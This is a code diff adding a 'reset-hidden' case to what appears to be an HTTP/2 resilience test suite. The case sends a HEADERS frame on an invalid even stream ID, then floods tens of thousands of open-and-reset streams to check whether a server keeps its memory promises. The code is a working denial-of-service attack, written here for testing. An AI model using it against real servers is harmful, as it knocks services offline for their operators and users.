@@ -65,6 +65,21 @@ def reset_info(trial):
     trial.figure(f'{sent} resets, {ended} connections ended')
 
 
+@attack('reset-hidden', sends='a call with an even number, which is for no '
+        'client, and then as in reset-info', promise='the memory promised',
+        settings=SMALL)
+def reset_hidden(trial):
+  block, make_resets = header_block('GetServerInfo'), opened_and_reset(
+      'GetServerInfo')
+
+  def make(connection, streams):
+    first = frame(HEADERS, block, END_HEADERS | END_STREAM, 0x7ffffffe)
+    return (first if streams[0] == 1 else b'') + make_resets(
+        connection, streams)
+  sent, ended = storm(trial, 1, 40_000, make, 10)
+  trial.figure(f'{sent} resets, {ended} connections ended')
+
+
 @attack('reset-attention', sends='HEADERS and RST_STREAM of Attention on four '
         'connections', promise='the memory promised', settings=SMALL)
 def reset_attention(trial):
